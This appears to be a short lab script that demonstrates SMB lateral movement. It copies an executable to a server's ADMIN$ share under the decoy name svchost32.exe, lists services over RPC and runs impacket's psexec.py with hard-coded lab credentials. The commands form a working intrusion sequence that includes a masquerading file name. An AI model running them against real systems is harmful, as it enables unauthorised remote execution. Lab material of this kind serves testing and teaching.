# Lateral movement over SMB: the administrative share, an executable copied to it, and the service
# control pipe (a listing of services, and psexec, which Samba lets go no further).
# packages: samba-common-bin smbclient python3-impacket samba
examples=/usr/share/doc/python3-impacket/examples
from client smbclient "//$SERVER/ADMIN\$" -p 445 -U root%Lab-2026 -c "put $LAB_DIR/www/setup.exe svchost32.exe"
from client net rpc service list -I $SERVER -U root%Lab-2026
LAB_SECONDS=8 from client /usr/bin/python3 $examples/psexec.py "root:Lab-2026@$SERVER" whoami
